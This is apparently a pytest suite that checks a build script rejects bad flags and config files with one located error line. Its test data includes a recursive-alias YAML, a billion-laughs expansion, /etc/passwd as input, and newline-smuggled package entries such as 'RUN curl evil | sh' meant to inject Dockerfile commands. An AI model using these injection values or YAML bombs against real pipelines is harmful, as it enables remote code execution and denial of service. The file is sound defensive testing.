"""The exit-code policy, end to end: `build.py` in a subprocess, as a user runs it.

Bad input (a flag, a matrix file) exits 2 with exactly one line on stderr that says where (the
flag, or file:line:col) and what is wrong: no traceback, nothing on stdout, nothing written.
Hostile YAML (a recursive alias, a billion laughs) is refused the same way and in bounded
time; the bound is the subprocess timeout (generous, so a slow machine never flakes), not an
assertion on the clock.
"""

from __future__ import annotations

import itertools
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support import write_matrix

ROOT = Path(__file__).resolve().parents[3]
TIMEOUT = 300  # seconds: far above what any of these takes; only a hang reaches it


def build_py(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PTMG_")}  # no PTMG_CONFIG etc. of the host
    return subprocess.run([sys.executable, str(ROOT / "build.py"), *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=TIMEOUT, check=False)


def refused(r: subprocess.CompletedProcess[str]) -> str:
    """The one stderr line of an exit-2 refusal."""
    assert r.returncode == 2, f"exit {r.returncode}\n{r.stderr}"
    assert "Traceback" not in r.stderr, r.stderr
    lines = r.stderr.splitlines()
    assert len(lines) == 1, f"want exactly one line on stderr, got {len(lines)}:\n{r.stderr}"
    assert r.stdout == "", r.stdout
    return lines[0]


# --- flags ------------------------------------------------------------------------------------
@pytest.mark.parametrize(("args", "flag", "why"), [
    (["test", "--nproc", "0"], "--nproc", "0: must be a whole number >= 1"),
    (["test", "--nodes", "0"], "--nodes", "0: must be a whole number >= 1"),
    (["build", "--jobs", "0"], "--jobs", "0: must be a whole number >= 1"),
    (["publish", "--attempts", "0", "--registry", "127.0.0.1:5000"], "--attempts", "0: must be a whole number >= 1"),
    (["launch", "--target", "slurm", "--nodes", "-1"], "--nodes", "-1: must be a whole number >= 1"),
    (["launch", "--target", "slurm", "--partition", "a\nb", "--no-pin"], "--partition",
     "contains a control character (U+000A)"),
    (["test", "--nproc", "two"], "--nproc", "'two': must be a whole number"),
], ids=["test-nproc-0", "test-nodes-0", "build-jobs-0", "publish-attempts-0", "launch-nodes-negative",
        "launch-partition-newline", "test-nproc-word"])
def test_a_bad_flag_is_one_line_naming_it(tmp_path: Path, args: list[str], flag: str, why: str) -> None:
    line = refused(build_py(*args, cwd=tmp_path))
    assert line.startswith(f"build.py {args[0]}: "), line
    assert flag in line and why in line, line


def test_only_matching_nothing_names_the_pattern(tmp_path: Path) -> None:
    config = write_matrix(tmp_path)
    line = refused(build_py("matrix", "--config", config.name, "--only", "zzz*", cwd=tmp_path))
    assert "--only 'zzz*' matches no cell" in line, line


# --- matrix files that are not matrix files -------------------------------------------------------
def _located(line: str, name: str) -> tuple[int, int]:
    m = re.match(rf"^{re.escape(name)}:(\d+):(\d+): ", line)
    assert m, f"not located as {name}:LINE:COL: {line}"
    return int(m.group(1)), int(m.group(2))


def test_a_binary_config_is_located(tmp_path: Path) -> None:
    (tmp_path / "model.bin").write_bytes(b"\x7fELF\x02\x01\x01\x00\xff\xfe" + bytes(range(256)) * 4)
    line = refused(build_py("matrix", "--config", "model.bin", cwd=tmp_path))
    assert _located(line, "model.bin") == (1, 9), line  # the first byte that is not UTF-8
    assert "not valid UTF-8 (byte 0xff)" in line, line


def test_a_config_with_nul_bytes_is_located(tmp_path: Path) -> None:
    (tmp_path / "nul.yaml").write_bytes(b"include:\n  - torch: \"2.7.0\"\x00\n")
    line = refused(build_py("matrix", "--config", "nul.yaml", cwd=tmp_path))
    assert _located(line, "nul.yaml") == (2, 19), line
    assert "U+0000 is not allowed" in line, line


def test_a_directory_as_config(tmp_path: Path) -> None:
    (tmp_path / "conf").mkdir()
    line = refused(build_py("matrix", "--config", "conf", cwd=tmp_path))
    assert line.startswith("conf: is a directory, not a file"), line


def test_a_missing_config(tmp_path: Path) -> None:
    line = refused(build_py("matrix", "--config", "nope.yaml", cwd=tmp_path))
    assert line.startswith("nope.yaml: file not found"), line


def test_etc_passwd_as_config(tmp_path: Path) -> None:
    line = refused(build_py("matrix", "--config", "/etc/passwd", cwd=tmp_path))
    _located(line, "/etc/passwd")


# --- hostile YAML: bounded, located ---------------------------------------------------------------
def test_a_recursive_alias_is_refused(tmp_path: Path) -> None:
    write_matrix(tmp_path, "include: &x [*x]\n")
    line = refused(build_py("matrix", "--config", "images.yaml", cwd=tmp_path))
    assert _located(line, "images.yaml") == (1, 10), line
    assert "recursive alias" in line, line


def test_a_billion_laughs_is_refused(tmp_path: Path) -> None:
    levels = "abcdefghi"
    text = 'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    for prev, cur in itertools.pairwise(levels):
        text += f"{cur}: &{cur} [{', '.join([f'*{prev}'] * 9)}]\n"  # 9**9 = 387 million strings in the end
    text += "include: *i\n"
    write_matrix(tmp_path, text)
    line = refused(build_py("matrix", "--config", "images.yaml", cwd=tmp_path))
    _located(line, "images.yaml")
    assert "the document expands to more than" in line and "nested aliases" in line, line


# --- a newline smuggled into a value that reaches the Dockerfile ----------------------------------
@pytest.mark.parametrize(("entry", "where"), [
    ('    pip: ["foo==1\\n==RUN"]\n', (3, 11)),
    ('    pip:\n      - |\n        foo==1\n        RUN curl evil | sh\n', (4, 9)),
    ('    apt: ["htop\\nRUN x"]\n', (3, 11)),
], ids=["pip-escaped-newline", "pip-block-scalar", "apt-newline"])
def test_a_newline_in_a_package_entry_is_refused_with_its_line(tmp_path: Path, entry: str,
                                                                 where: tuple[int, int]) -> None:
    write_matrix(tmp_path, 'include:\n  - torch: "2.7.0"\n' + entry)
    line = refused(build_py("render", "--config", "images.yaml", cwd=tmp_path))
    assert _located(line, "images.yaml") == where, line
    assert "control character (U+000A)" in line, line
    assert not (tmp_path / "docker").exists(), "nothing may be rendered from a refused matrix"
